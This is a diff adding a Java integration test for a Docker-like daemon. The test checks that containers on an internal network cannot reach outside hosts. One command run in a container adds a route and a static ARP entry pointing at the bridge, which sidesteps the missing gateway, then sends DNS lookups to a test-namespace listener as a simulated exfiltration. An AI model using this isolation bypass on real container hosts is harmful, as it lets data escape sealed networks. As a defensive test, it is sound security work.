@@ -92,6 +92,83 @@ class MasqueradeIT {
     assertTrue(d.networkLeftovers().isEmpty(), "left: " + d.networkLeftovers());
   }
 
+  /** Writes what the first datagram to port 53 said, and who sent it, to the file given. */
+  private static final String UDP_WITNESS = String.join("\n",
+      "import socket, sys",
+      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
+      "s.bind((sys.argv[1], 53))",
+      "data, peer = s.recvfrom(512)",
+      "open(sys.argv[2], 'w').write(peer[0])");
+
+  /**
+   * An attack from inside a container on an {@code --internal} network: it has no gateway, so it
+   * routes around that, with a route and a neighbour entry sending its packets to the bridge's own
+   * address, which has the host forward them (NET_ADMIN stands in here for a frame written raw,
+   * which a default container's NET_RAW allows). dockerd drops what leaves an internal network's
+   * subnet; so does berth, and the witness outside hears nothing, while the same packet from a
+   * container on a plain network does reach it.
+   */
+  @Test
+  void aContainerOnAnInternalNetworkCannotSendAnythingOffItsBridge() throws Exception {
+    String id = Integer.toHexString(ThreadLocalRandom.current().nextInt(0x1000, 0x10000));
+    String ns = "bt-up-" + id;
+    String hostEnd = "btu" + id;
+    String farEnd = "btf" + id;
+    int block = ThreadLocalRandom.current().nextInt(256);
+    String farIp = "198.19." + block + ".2";
+    java.nio.file.Path heard = java.nio.file.Files.createTempFile("bt-heard", ".txt");
+    java.nio.file.Files.delete(heard);
+    Process witness = null;
+    BerthDaemon d = null;
+    try {
+      sh("ip", "netns", "add", ns);
+      sh("ip", "link", "add", hostEnd, "type", "veth", "peer", "name", farEnd);
+      sh("ip", "link", "set", farEnd, "netns", ns);
+      sh("ip", "addr", "add", "198.19." + block + ".1/30", "dev", hostEnd);
+      sh("ip", "link", "set", hostEnd, "up");
+      sh("ip", "netns", "exec", ns, "ip", "addr", "add", farIp + "/30", "dev", farEnd);
+      sh("ip", "netns", "exec", ns, "ip", "link", "set", farEnd, "up");
+
+      d = BerthDaemon.startMasquerading();
+      var cli = d.docker();
+      Fixtures.importBusybox(cli, "busybox:latest");
+      String internal = cli.run("network", "create", "--internal", "sealed").ok().line();
+      String plain = cli.run("network", "create", "open").ok().line();
+      for (String net : List.of("sealed", "open")) {
+        witness = new ProcessBuilder("ip", "netns", "exec", ns, "python3", "-c", UDP_WITNESS, farIp, heard.toString())
+            .redirectErrorStream(true).start();
+        Thread.sleep(300); // the witness binds its socket
+        // A first container on the network makes its bridge, whose address the attack needs.
+        String holder = cli.run("run", "-d", "--network", net, "busybox", "sleep", "60").ok().line();
+        String bridge = "br-" + (net.equals("sealed") ? internal : plain).substring(0, 12);
+        String mac = java.nio.file.Files.readString(java.nio.file.Path.of("/sys/class/net", bridge, "address")).strip();
+        cli.run("run", "--rm", "--network", net, "--cap-add", "NET_ADMIN", "busybox", "sh", "-c",
+            "ip route add " + farIp + "/32 dev eth0; arp -s " + farIp + " " + mac + "; for i in 1 2 3; do "
+                + "timeout 1 nslookup exfiltrated " + farIp + "; done; true").ok();
+        Thread.sleep(500);
+        witness.destroyForcibly().waitFor();
+        cli.run("rm", "-f", holder).ok();
+        if (net.equals("sealed")) {
+          assertFalse(java.nio.file.Files.exists(heard), "a packet left the internal network");
+        } else {
+          assertTrue(java.nio.file.Files.exists(heard), "the attack's packet, from a plain network, is the control");
+        }
+      }
+      cli.run("network", "rm", "sealed", "open").ok();
+    } finally {
+      if (witness != null) {
+        witness.destroyForcibly().waitFor();
+      }
+      if (d != null) {
+        d.close();
+      }
+      java.nio.file.Files.deleteIfExists(heard);
+      quietly("ip", "netns", "del", ns);
+      quietly("ip", "link", "del", hostEnd);
+    }
+    assertTrue(d.networkLeftovers().isEmpty(), "left: " + d.networkLeftovers());
+  }
+
   private static String iptablesSave() throws IOException, InterruptedException {
     Process p = new ProcessBuilder("iptables-save").redirectError(ProcessBuilder.Redirect.DISCARD).start();
     String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
